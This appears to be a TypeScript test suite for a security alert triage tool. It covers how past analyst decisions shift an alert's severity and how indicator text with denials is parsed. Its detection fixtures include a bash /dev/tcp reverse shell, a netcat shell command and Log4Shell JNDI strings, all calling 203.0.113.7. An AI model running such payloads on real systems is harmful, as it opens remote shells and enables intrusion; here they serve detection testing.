import assert from "node:assert/strict";
import { seededRandom } from "../src/base/random.js";
import { encodeThreat } from "../src/store/documents.js";
import { History, pastThreat, type PastThreat } from "../src/threats/history.js";
import { scenarioSignal } from "../src/threats/scenarios.js";
import { decide } from "../src/threats/triage.js";
import { assertionsOf } from "../src/threats/texts.js";
import type { Decisions } from "../src/contract/requests.js";
import type { Metadata, ThreatSignal } from "../src/contract/signal.js";
import type { ThreatAnalysis } from "../src/contract/threat.js";
import { analyze, NOON, past, signalOf } from "./support/analysis.js";
import { usePod } from "./support/stores.js";

/** An alert of a rule on a machine, of the level that its source gives it. */
const alert = (more: Metadata = {}): ThreatSignal =>
  signalOf("anomaly_detection", {
    source: "wazuh",
    source_severity: "HIGH",
    rule_id: "23506",
    endpoint_name: "web-1",
    ...more,
  });

/** The threat of an alert after a person's decision. */
async function decided(
  signal: ThreatSignal,
  decision: Omit<Decisions, "version">,
): Promise<PastThreat> {
  const threat = await analyze(signal);
  return pastThreat(
    decide(threat, { version: 1, ...decision }, "Ada", "2026-06-10T11:30:00.000000"),
  );
}

const score = (threat: ThreatAnalysis) => threat.false_positive_score?.score ?? 0;
const factsOf = (threat: ThreatAnalysis) => threat.evidence.map(({ fact }) => fact).join("\n");

describe("history", () => {
  it("is not what the analysis itself thought: the same again and again is the same", async () => {
    for (const name of ["crypto_surge", "bot_attack", "geo_impossible", "critical_threat"]) {
      const signal = scenarioSignal(name, seededRandom(1), NOON);
      assert.ok(signal !== null);
      const history: PastThreat[] = [];
      const seen = new Set<string>();
      for (let times = 0; times < 6; times += 1) {
        const threat = await analyze(signal, history);
        const { similar_resolved_as_real: real } = threat.false_positive_score ?? {};
        seen.add(JSON.stringify([threat.severity, score(threat), real]));
        history.unshift(pastThreat(threat));
      }
      assert.equal(seen.size, 1, `${name}: ${[...seen].join(" ")}`);
    }
  });

  it("is what people decided of the same rule on the same machine, with who and when", async () => {
    const fresh = await analyze(alert());
    const before = await decided(alert(), { status: "false_positive", note: "Accepted risk" });
    const threat = await analyze(alert(), [before]);
    assert.deepEqual([fresh.severity, threat.severity], ["HIGH", "MEDIUM"]);
    assert.ok(score(threat) > score(fresh));
    assert.equal(threat.false_positive_score?.similar_resolved_as_fp, 1);
    const cited = threat.evidence.find(({ fact }) => fact.startsWith("People called"));
    assert.equal(
      cited?.fact,
      'People called 1 of 1 such threat false, last Ada at 2026-06-10T11:30:00.000000: "Accepted risk"',
    );
    assert.ok(cited.fields.some((field) => /^threats\/[-\w]+\/status$/.test(field)));
  });

  it("makes what people called real graver", async () => {
    const medium = alert({ source_severity: "MEDIUM" });
    const before = await decided(medium, { confirmed: true });
    const threat = await analyze(medium, [before]);
    assert.deepEqual([(await analyze(medium)).severity, threat.severity], ["MEDIUM", "HIGH"]);
    assert.match(factsOf(threat), /People called 1 of 1 such threat real, last Ada/);
  });

  it("tells a note of the same, and does not weigh it", async () => {
    const before = await decided(alert(), { note: "harmless, planned" });
    const threat = await analyze(alert(), [before]);
    assert.match(factsOf(threat), /Ada wrote of such a threat at 2026-06-10T11:30.*: "harmless/);
    assert.deepEqual([threat.severity, score(threat)], ["HIGH", score(await analyze(alert()))]);
  });

  it("is none of another rule, or another machine", async () => {
    const before = await decided(alert(), { status: "false_positive" });
    for (const other of [alert({ rule_id: "1" }), alert({ endpoint_name: "web-2" })]) {
      const threat = await analyze(other, [before]);
      assert.equal(threat.severity, "HIGH");
      assert.doesNotMatch(factsOf(threat), /People called/);
    }
  });

  it("of many machines is not that of many customers", async () => {
    const machines = Array.from({ length: 5 }, (_, index) =>
      past({ customer: `web-${index}`, subjects: [`host web-${index}`] }),
    );
    const customers = machines.map(({ subjects: _, ...threat }) => threat);
    const signal = signalOf("bot_traffic", {});
    assert.doesNotMatch(factsOf(await analyze(signal, machines)), /customers report/);
    assert.match(factsOf(await analyze(signal, customers)), /5 customers report bot traffic/);
  });
});

describe("history of many alerts", () => {
  const pod = usePod("memory", { maxStoredThreats: 2 });
  const asPast = async (id: string, decision: Omit<Decisions, "version"> | null = null) =>
    encodeThreat(
      decide({ ...(await analyze(alert())), id }, { version: 1, ...decision }, "Ada", "2026"),
    ).past;
  const decidedIn = (history: History, signal = alert()) =>
    history.lookBack(signal).flatMap(({ decision }) => decision?.threatId ?? []);

  it("keeps what people have decided of the same, each once, and that they take back", async () => {
    const history = new History(2, 3);
    const real = { confirmed: true } as const;
    history.add("first", await asPast("first", real));
    history.add("second", await asPast("second"));
    assert.deepEqual(decidedIn(history), ["first"]);
    for (const id of ["third", "fourth"]) {
      history.add(id, await asPast(id));
    }
    history.update("second", await asPast("second", real));
    assert.deepEqual(decidedIn(history), ["second", "first"]);
    assert.deepEqual(decidedIn(history, alert({ endpoint_name: "web-2" })), []);
    assert.equal(history.lookBack(alert()).length, 4);
    history.update("first", await asPast("first"));
    assert.deepEqual(decidedIn(history), ["second"]);
    history.clear();
    assert.deepEqual(history.lookBack(alert()), []);
  });

  it("keeps the newest decisions", async () => {
    const history = new History(1, 2);
    for (const id of ["a", "b", "a", "c"]) {
      history.update(id, await asPast(id, { note: "x" }));
    }
    assert.deepEqual(decidedIn(history), ["c", "a"]);
  });

  it("lets a decision count however many have come since", async () => {
    const send = async (endpoint_name: string): Promise<ThreatAnalysis> => {
      const body = { customer_name: "Acme", metadata: { rule_id: "7", endpoint_name } };
      assert.equal((await pod.api.post("/api/threats/ingest", body)).status, 202);
      const [newest] = (await pod.api.get("/api/threats")).json as readonly ThreatAnalysis[];
      assert.equal(newest?.signal.metadata["endpoint_name"], endpoint_name);
      return newest;
    };
    const { id, version } = await send("web-1");
    await pod.api.patch(id, { version, status: "false_positive" });
    for (let index = 0; index < 5; index += 1) {
      await send(`other-${index}`);
    }
    assert.match(factsOf(await send("web-1")), /People called 1 of 1 such threat false/);
  });
});

describe("what a signal says", () => {
  const device = (...indicators: readonly string[]) =>
    analyze(signalOf("device_compromise", { indicators }));

  it("is read with its denials", async () => {
    for (const said of ["no ransom note found", "mimikatz was not seen", "rootkit check: none"]) {
      const threat = await device(said);
      assert.equal(threat.severity, "MEDIUM", said);
      assert.notEqual(threat.response_plan?.primary_action.action_type, "quarantine", said);
    }
    assert.equal((await device("no virus found, ransom note written")).severity, "HIGH");
    assert.deepEqual(assertionsOf("nothing open; files were encrypted"), [" files were encrypted"]);
    for (const said of ["files weren't encrypted", "0 files encrypted", "mimikatz: none..."]) {
      assert.deepEqual(assertionsOf(said).join(""), "", said);
    }
  });

  it("is denied by no part of a name, a path or a number, and by no other line", async () => {
    for (const said of [
      "mimikatz v2.2.0 found",
      "mimikatz.exe started on 10.0.0.5",
      "C:\\no\\mimikatz.exe",
      "not-a-virus:mimikatz",
      "Connection not encrypted\nmimikatz started",
      "mimikatz ended with 0",
    ]) {
      assert.match(factsOf(await device(said)), /credentials dumped/, said);
    }
  });

  it("is read in no time, whatever marks it is full of", () => {
    const marks = `${".".repeat(100_000)}x`;
    const started = performance.now();
    assert.deepEqual(assertionsOf(marks), [marks]);
    assert.ok(performance.now() - started < 1000);
  });

  it("counts once, and not at all where it says nothing", async () => {
    assert.equal((await device(...Array<string>(20).fill("a"))).severity, "MEDIUM");
    const stopped = "security agent stopped";
    assert.deepEqual((await device(stopped, stopped)).severity, (await device(stopped)).severity);
  });

  const proofs: readonly (readonly [string, Metadata, readonly string[]])[] = [
    ["T1486", {}, ["T1486"]],
    ["Log4Shell", { full_log: 'GET / "${jndi:ldap://203.0.113.7/a}"' }, []],
    ["hidden Log4Shell", { user_agent: "${${lower:j}ndi:ldap://203.0.113.7/a}" }, []],
    ["a shell", { raw: { data: { cmd: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" } } }, []],
    ["netcat", { full_log: "nc -e /bin/sh 203.0.113.7 4444" }, []],
  ];
  for (const [what, metadata, hints] of proofs) {
    it(`is grave with ${what}, whatever the source's level`, async () => {
      const signal = { ...alert({ source_severity: "LOW", ...metadata }), mitre_hints: hints };
      const threat = await analyze(signal);
      assert.ok(["HIGH", "CRITICAL"].includes(threat.severity), threat.severity);
      assert.match(factsOf(threat), /It shows/);
    });
  }

  it("is as grave as its source's level without such proof", async () => {
    for (const severity of ["INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL"]) {
      assert.equal((await analyze(alert({ source_severity: severity }))).severity, severity);
    }
  });
});
